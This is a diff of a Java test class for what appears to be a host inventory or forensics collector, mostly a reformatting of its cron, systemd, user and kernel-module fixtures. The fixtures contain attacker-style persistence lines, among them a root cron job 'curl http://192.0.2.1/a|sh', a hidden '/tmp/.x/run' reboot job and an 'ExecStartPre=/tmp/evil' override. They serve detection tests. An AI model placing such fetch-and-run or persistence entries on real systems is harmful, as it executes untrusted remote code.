@@ -39,12 +39,20 @@ class InventoryContentTest {
 
     @Test
     void shouldTellUsersWithoutTheirSecrets() throws Exception {
-        write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nweb:x:33:33::/var/www:/usr/sbin/nologin\n"
-                + "open::7:7::/:/bin/sh\nold:ab0123456789.:8:8::/:/bin/sh\nbroken:x:y\nkeys:x:9:9::/home/keys:/bin/sh\n");
-        write("etc/shadow", "root:$y$j9T$salt$secrethash:19000:0:99999:7:::\nweb:*:18000::::::\nkeys:!$6$s$secrethash:1::::::\n");
+        write(
+                "etc/passwd",
+                "root:x:0:0:root:/root:/bin/bash\nweb:x:33:33::/var/www:/usr/sbin/nologin\n"
+                        + "open::7:7::/:/bin/sh\nold:ab0123456789.:8:8::/:/bin/sh\nbroken:x:y\nkeys:x:9:9::/home/keys:/bin/sh\n");
+        write(
+                "etc/shadow",
+                "root:$y$j9T$salt$secrethash:19000:0:99999:7:::\nweb:*:18000::::::\nkeys:!$6$s$secrethash:1::::::\n");
         write("etc/group", "root:x:0:\nwww:x:33:\nsudo:x:27:keys,web\nadm:x:4:keys\n");
         byte[] lastlog = new byte[292];
-        ByteBuffer.wrap(lastlog).order(ByteOrder.nativeOrder()).putInt(1_700_000_000).position(36).put("192.0.2.7".getBytes("US-ASCII"));
+        ByteBuffer.wrap(lastlog)
+                .order(ByteOrder.nativeOrder())
+                .putInt(1_700_000_000)
+                .position(36)
+                .put("192.0.2.7".getBytes("US-ASCII"));
         write("var/log/lastlog", "");
         Files.write(root.resolve("var/log/lastlog"), lastlog);
 
@@ -71,25 +79,39 @@ class InventoryContentTest {
 
     @Test
     void shouldReadCrontabsAndScripts() throws Exception {
-        write("etc/crontab", "SHELL=/bin/sh\n# comment\n17 *\t* * *   root  cd / && run-parts /etc/cron.hourly\nnot a job\n");
+        write(
+                "etc/crontab",
+                "SHELL=/bin/sh\n# comment\n17 *\t* * *   root  cd / && run-parts /etc/cron.hourly\nnot a job\n");
         write("etc/cron.d/evil", "@reboot nobody /tmp/.x/run --quiet\n* * * * * root curl http://192.0.2.1/a|sh\n");
         write("var/spool/cron/crontabs/eve", "*/5 0-3,7 * jan sun echo hello = world\nMAILTO=x@y\n");
         write("etc/cron.daily/backup", "#!/bin/sh\n");
         write("etc/cron.daily/.placeholder", "");
 
         assertThat(take(new CronJobs(), CronItem.class))
-                .extracting(it -> root.relativize(Path.of(it.getPath())).toString(), CronItem::getLine, CronItem::getSchedule, CronItem::getUser, CronItem::getCommand)
+                .extracting(
+                        it -> root.relativize(Path.of(it.getPath())).toString(),
+                        CronItem::getLine,
+                        CronItem::getSchedule,
+                        CronItem::getUser,
+                        CronItem::getCommand)
                 .containsExactly(
                         tuple("etc/crontab", 3, "17 * * * *", "root", "cd / && run-parts /etc/cron.hourly"),
                         tuple("etc/cron.d/evil", 1, "@reboot", "nobody", "/tmp/.x/run --quiet"),
                         tuple("etc/cron.d/evil", 2, "* * * * *", "root", "curl http://192.0.2.1/a|sh"),
                         tuple("var/spool/cron/crontabs/eve", 1, "*/5 0-3,7 * jan sun", "eve", "echo hello = world"),
-                        tuple("etc/cron.daily/backup", 0, "daily", "root", root.resolve("etc/cron.daily/backup").toString()));
+                        tuple(
+                                "etc/cron.daily/backup",
+                                0,
+                                "daily",
+                                "root",
+                                root.resolve("etc/cron.daily/backup").toString()));
     }
 
     @Test
     void shouldReadUnitsFromTheDirectoryThatWins() throws Exception {
-        write("usr/lib/systemd/system/web.service", "[Unit]\nDescription=Web\n[Service]\nUser=www\nExecStart=/usr/bin/web \\\n --port 80\n");
+        write(
+                "usr/lib/systemd/system/web.service",
+                "[Unit]\nDescription=Web\n[Service]\nUser=www\nExecStart=/usr/bin/web \\\n --port 80\n");
         write("etc/systemd/system/web.service.d/override.conf", "[Service]\nExecStartPre=/tmp/evil\n");
         write("usr/lib/systemd/system/off.service", "[Service]\nExecStart=/bin/off\n");
         Files.createSymbolicLink(root.resolve("etc/systemd/system/off.service"), Path.of("/dev/null"));
@@ -102,8 +124,13 @@ class InventoryContentTest {
         assertThat(units)
                 .extracting(SystemdUnitItem::getName, SystemdUnitItem::getEnabled, SystemdUnitItem::getMasked)
                 .containsExactlyInAnyOrder(
-                        tuple("beacon.timer", false, false), tuple("off.service", false, true), tuple("web.service", true, false));
-        SystemdUnitItem web = units.stream().filter(it -> it.getName().equals("web.service")).findFirst().orElseThrow();
+                        tuple("beacon.timer", false, false),
+                        tuple("off.service", false, true),
+                        tuple("web.service", true, false));
+        SystemdUnitItem web = units.stream()
+                .filter(it -> it.getName().equals("web.service"))
+                .findFirst()
+                .orElseThrow();
         assertThat(web.getDescription()).isEqualTo("Web");
         assertThat(web.getUser()).isEqualTo("www");
         assertThat(web.getCommands()).containsExactly("ExecStart=/usr/bin/web   --port 80", "ExecStartPre=/tmp/evil");
@@ -113,7 +140,9 @@ class InventoryContentTest {
 
     @Test
     void shouldTellModulesThatHide() throws Exception {
-        write("proc/modules", "nfnetlink 20480 2 nf_tables,x_tables, Live 0x0000000000000000\nrootkit 4096 0 - Live 0x0 (OE)\n");
+        write(
+                "proc/modules",
+                "nfnetlink 20480 2 nf_tables,x_tables, Live 0x0000000000000000\nrootkit 4096 0 - Live 0x0 (OE)\n");
         write("sys/module/nfnetlink/initstate", "live\n");
         write("sys/module/hidden/initstate", "live\n");
         write("sys/module/hidden/taint", "O\n");
@@ -146,8 +175,7 @@ class InventoryContentTest {
             List<SpecificRecord> doors = new ArrayList<>();
             new ListeningPorts().take(here, doors::add);
             assertThat(doors).anySatisfy(it -> isHeldHere((SocketItem) it, server.getLocalPort()));
-            assertThat(doors)
-                    .noneMatch(it -> ((SocketItem) it).getSocket().getLocalPort() == client.getLocalPort());
+            assertThat(doors).noneMatch(it -> ((SocketItem) it).getSocket().getLocalPort() == client.getLocalPort());
             List<SpecificRecord> sockets = new ArrayList<>();
             new Sockets().take(here, sockets::add);
             assertThat(sockets).anySatisfy(it -> isHeldHere((SocketItem) it, client.getLocalPort()));
